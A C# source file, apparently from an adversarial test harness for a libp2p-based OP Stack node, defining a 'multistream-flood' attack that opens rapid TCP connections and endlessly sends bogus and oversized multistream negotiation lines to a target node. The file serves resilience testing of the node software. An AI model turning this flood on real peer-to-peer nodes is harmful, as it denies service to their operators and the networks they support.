using System.Text;
using OpStack.Libp2p;
using OpStack.Libp2p.Transport;
using OpStack.Primitives.Encoding;

namespace OpStack.P2P.Adversarial.NodeCases.Attacks.Transport;

/// <summary>Negotiation that never ends: unknown protocols, "ls", and lines longer than there may be, as fast as they are taken.</summary>
internal sealed class MultistreamFlood : Attack
{
    private const int ConnectionsPerSecond = 50;

    public override string Name => "multistream-flood";

    public override string Row => "21";

    public override string Unit => "proposals";

    protected override int Attackers => 4;

    protected override async Task LiveAsync(AttackTarget target, int attacker, CancellationToken stop)
    {
        Pace pace = new(ConnectionsPerSecond);
        byte[][] lines = [Line("/no/such/protocol"), Line("ls"), Line(new string('x', 64 * 1024)), Line("na")];
        for (int i = 0; ; i++)
        {
            await pace.NextAsync(stop);
            TcpConnection connection = await AttackTransport.ConnectAsync(target.Tcp, stop);
            try
            {
                await connection.WriteAsync(Line("/multistream/1.0.0"), stop);
                while (true)
                {
                    await connection.WriteAsync(lines[i % lines.Length], stop);
                    CountSent();
                }
            }
            catch (Libp2pException)
            {
                // Closed by the victim.
            }
            finally
            {
                connection.Abort();
            }
        }
    }

    private static byte[] Line(string text)
    {
        byte[] line = Encoding.ASCII.GetBytes(text + "\n");
        byte[] length = new byte[Varint.MaxLength];
        return [.. length[..Varint.Write(length, (ulong)line.Length)], .. line];
    }
}
